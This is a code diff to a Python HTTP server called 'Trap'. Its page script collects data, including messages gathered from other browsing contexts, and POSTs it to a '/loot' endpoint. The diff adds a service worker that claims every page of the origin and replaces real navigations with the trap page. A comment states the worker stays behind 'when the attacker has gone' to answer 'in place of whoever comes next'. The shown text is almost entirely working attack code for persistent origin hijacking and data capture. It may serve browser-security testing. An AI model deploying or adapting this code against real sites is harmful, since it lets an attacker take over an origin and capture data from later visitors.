@@ -20,8 +20,20 @@ PAGE = b'''<!doctype html><title>trap</title><script>
     others.onmessage = ({ data }) => found.told.push(data);
     others.postMessage("ask");
   }
+  navigator.serviceWorker?.register("/worker.js", { scope: "/" });
   setTimeout(() => fetch("/loot", { method: "POST", body: JSON.stringify(found) }), 500);
 </script>'''
+
+# Stays in the browser when the attacker has gone, and answers for this origin in place of whoever comes next.
+WORKER = b'''
+  self.addEventListener("install", () => self.skipWaiting());
+  self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
+  self.addEventListener("fetch", (event) => {
+    const trap = () => new Response("<title>trap</title>", { headers: { "Content-Type": "text/html" } });
+    if (event.request.mode === "navigate")
+      event.respondWith(fetch(event.request).then((got) => got.headers.has("X-Trap") ? got : trap(), trap));
+  });
+'''
 
 class Trap(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
@@ -30,9 +42,12 @@ class Trap(http.server.BaseHTTPRequestHandler):
         sys.stdout.write(json.dumps(got) + "\\n"); sys.stdout.flush()
         is_page = "text/html" in self.headers.get("Accept", "")
         self.send_response(200)
-        self.send_header("Content-Type", "text/html" if is_page else "application/json")
+        is_worker = self.path == "/worker.js"
+        kind = "text/html" if is_page else "text/javascript" if is_worker else "application/json"
+        self.send_header("Content-Type", kind)
+        self.send_header("X-Trap", "1")
         self.end_headers()
-        self.wfile.write(PAGE if is_page else b"{}")
+        self.wfile.write(PAGE if is_page else WORKER if is_worker else b"{}")
     do_POST = do_GET
     def log_message(self, *words):
         pass
